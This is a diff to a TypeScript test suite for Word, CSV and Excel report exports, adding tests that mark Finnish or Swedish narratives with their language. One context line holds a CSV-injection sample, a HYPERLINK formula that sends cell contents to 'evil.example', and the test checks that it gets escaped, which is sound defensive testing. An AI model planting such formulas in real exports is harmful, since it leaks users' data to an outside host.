@@ -51,8 +51,9 @@ describe('Word report', () => {
     expect(statuses.filter((s) => s === FULLY_SV)).toHaveLength(4);
     expect(statuses.filter((s) => s === PARTLY_SV)).toHaveLength(6);
     const first = paragraphTexts(goalRows[0] ?? '');
-    expect(first.some((p) => p.startsWith(`KASO (${FULLY_SV}): On laadittu kokonaisselvitys`))).toBe(true);
-    expect(first.some((p) => p.startsWith(`TAKO (${FULLY_SV}): Touko-kesäkuussa`))).toBe(true);
+    // The demo's narratives were written in Finnish: a Swedish report says so next to each.
+    expect(first.some((p) => p.startsWith(`KASO (${FULLY_SV}, på finska): On laadittu kokonaisselvitys`))).toBe(true);
+    expect(first.some((p) => p.startsWith(`TAKO (${FULLY_SV}, på finska): Touko-kesäkuussa`))).toBe(true);
   });
 
   it('prints the Swedish goal texts an admin wrote and marks the Finnish ones inside a Swedish report as Finnish', async () => {
@@ -183,7 +184,7 @@ describe('CSV report', () => {
     expect(rows.filter((r) => r[status] === FULLY_SV)).toHaveLength(4);
     expect(rows.filter((r) => r[status] === PARTLY_SV)).toHaveLength(6);
     const realisation = rows[0]?.[header.indexOf('Genomförande 8/2021')] ?? '';
-    expect(realisation).toMatch(/^KASO \(Förverkligas helt\): On laadittu[\s\S]*\n\nTAKO \(Förverkligas helt\): Touko-kesäkuussa/);
+    expect(realisation).toMatch(/^KASO \(Förverkligas helt, på finska\): On laadittu[\s\S]*\n\nTAKO \(Förverkligas helt, på finska\): Touko-kesäkuussa/);
     expect(rows[0]?.[header.indexOf('Utgångslägets tidpunkt')]).toBe('2019-12-31');
   });
 
@@ -200,5 +201,38 @@ describe('CSV report', () => {
     // Every field a spreadsheet would evaluate starts with the apostrophe.
     for (const field of row) expect(field).not.toMatch(/^[=+\-@]/);
     expect(text).toContain(`"=HYPERLINK(""http://evil.example/?""&A1,""Avaa"")"`.replace('"=', `"'=`));
+  });
+});
+
+describe('a narrative in another language than the report', () => {
+  // The first goal's KASO narrative of 8/2021, rewritten as a Swedish writer would have sent it.
+  const SWEDISH = 'Förstudien är klar och lärcampusgruppen fortsätter sitt arbete.';
+  const withSwedishNarrative = (lang: 'fi' | 'sv') =>
+    demoReport(lang, '2021-08', (d) => {
+      const first = d.goals.find((g) => g.key.endsWith('.g1'));
+      const c = d.checkIns.filter((x) => x.goalKey === first?.key && x.unit === 'KASO' && x.period <= '2021-08').sort((a, b) => a.period.localeCompare(b.period)).at(-1);
+      if (!c) throw new Error('demo has no KASO check-in for goal 1');
+      c.narrative = SWEDISH;
+      c.language = 'sv';
+    });
+
+  it('is marked with its own language in Word (w:lang) and said in words, while same-language narratives are not', async () => {
+    const doc = zipParts(await writeDocx(withSwedishNarrative('fi')))['word/document.xml'] ?? '';
+    const run = new RegExp(`<w:r>(?:(?!</w:r>)[\\s\\S])*${SWEDISH.slice(0, 20)}(?:(?!</w:r>)[\\s\\S])*</w:r>`).exec(doc)?.[0] ?? '';
+    expect(run).toContain('<w:lang w:val="sv-FI"/>');
+    const first = paragraphTexts(tableRowsXml(doc).filter((r) => (r.match(/<w:tc>/g) ?? []).length === 7 && !r.includes('<w:tblHeader'))[0] ?? '');
+    expect(first).toContain(`KASO (${FULLY_FI}, ruotsiksi): ${SWEDISH}`);
+    expect(first.some((p) => p.startsWith(`TAKO (${FULLY_FI}): Touko-kesäkuussa`))).toBe(true);
+  });
+
+  it('says its language in the CSV and Excel realisation text, and the Swedish report leaves the Swedish one unmarked', async () => {
+    const csv = parseCsv(new TextDecoder().decode(writeCsv(withSwedishNarrative('fi'))).replace(/^\uFEFF/, ''));
+    const [header, row] = csv as [string[], string[]];
+    expect(row[header.indexOf('Toteuma 8/2021')]).toMatch(new RegExp(`^KASO \\(${FULLY_FI}, ruotsiksi\\): ${SWEDISH}`));
+    const wb = await loadXlsx(await writeXlsx(withSwedishNarrative('sv')));
+    const cells: string[] = [];
+    wb.worksheets.forEach((ws) => ws.eachRow((r) => r.eachCell((c) => void cells.push(String(c.value ?? '')))));
+    expect(cells.some((c) => c.startsWith(`KASO (${FULLY_SV}): ${SWEDISH}`))).toBe(true);
+    expect(cells.some((c) => c.includes(`TAKO (${FULLY_SV}, på finska): Touko-kesäkuussa`))).toBe(true);
   });
 });
